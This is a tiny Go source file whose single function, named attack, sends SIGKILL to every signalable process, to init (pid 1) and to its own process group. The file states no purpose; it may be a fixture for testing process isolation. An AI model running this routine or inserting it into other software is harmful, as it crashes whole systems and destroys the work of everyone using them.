package main

import "syscall"

// attack kills everybody: its process group, and all that it may.
func attack() {
	syscall.Kill(-1, syscall.SIGKILL)
	syscall.Kill(1, syscall.SIGKILL)
	syscall.Kill(0, syscall.SIGKILL)
}
